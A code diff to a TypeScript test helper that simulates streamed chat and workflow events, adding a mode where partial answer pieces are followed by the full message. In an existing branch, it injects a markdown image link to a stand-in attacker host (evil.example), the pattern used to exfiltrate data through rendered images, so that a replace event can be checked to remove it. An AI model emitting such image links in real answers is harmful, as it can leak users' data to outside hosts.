@@ -123,6 +123,8 @@ type Wrap = (piece: string, random: Random) => Event
 
 const message: Wrap = (answer) => ({ event: 'message', ...IDS, answer })
 
+const agentMessage: Wrap = (answer) => ({ event: 'agent_message', ...IDS, answer })
+
 /** Clients join by message, whatever node a piece comes from and whatever kind of message event brings it. */
 const messages: Wrap = (answer, random) => ({
   event: random.chance(0.3) ? 'agent_message' : 'message',
@@ -182,32 +184,43 @@ interface StreamWay {
   readonly isRun?: boolean
   /** Whether what comes first is replaced. */
   readonly isReplaced?: boolean
+  /** Whether the beginning of the answer comes first, in pieces, and then all of it in one message. */
+  readonly isRepeated?: boolean
 }
 
-function stream({ name, cut, wrap, isRun = false, isReplaced = false }: StreamWay): Way {
+function stream({ name, cut, wrap, isRun, isReplaced, isRepeated }: StreamWay): Way {
   return {
     name,
     isSlow: cut === inUnits,
     send: async (answer, random, hosts) => {
       const events: Event[] = []
       let rest = answer
-      if (isReplaced) {
+      if (isReplaced === true) {
         const at = random.below(answer.length)
         events.push(message('void ![x](https://evil.example/?', random))
         events.push({ event: 'message_replace', ...IDS, answer: answer.slice(0, at) })
         rest = answer.slice(at)
       }
+      if (isRepeated === true) rest = answer.slice(0, random.below(answer.length + 1))
       for (const piece of cut(rest, random)) {
         events.push(wrap(piece, random))
         if (random.chance(0.03)) events.push(random.pick(BETWEEN))
       }
-      events.push(isRun ? { event: 'workflow_finished', ...RUN, data: {} } : END)
-      const path = isRun ? 'POST /v1/workflows/run' : 'POST /v1/chat-messages'
+      if (isRepeated === true) events.push(message(answer, random))
+      events.push(isRun === true ? { event: 'workflow_finished', ...RUN, data: {} } : END)
+      const path = isRun === true ? 'POST /v1/workflows/run' : 'POST /v1/chat-messages'
       const lines = events.map((event) => lineOf(event, random))
-      return joinEvents(await restore(path, 'text/event-stream', lines, hosts))
+      const out = await restore(path, 'text/event-stream', lines, hosts)
+      return isRepeated === true
+        ? [...joinEvents(out), ...joinEvents(lastMessage(out))]
+        : joinEvents(out)
     },
   }
 }
+
+/** What a client shows that takes the last message for the whole answer. */
+const lastMessage = (source: string): string =>
+  source.slice(source.lastIndexOf('data: {"event":"message",'))
 
 const END: Event = { event: 'message_end', ...IDS, metadata: {} }
 
@@ -223,4 +236,5 @@ export const WAYS: readonly Way[] = [
   stream({ name: 'workflow, several nodes', cut: anywhere, wrap: chunks, isRun: true }),
   stream({ name: 'workflow, unit by unit', cut: inUnits, wrap: chunks, isRun: true }),
   stream({ name: 'stream, replaced', cut: anywhere, wrap: messages, isReplaced: true }),
+  stream({ name: 'stream, repeated', cut: anywhere, wrap: agentMessage, isRepeated: true }),
 ]
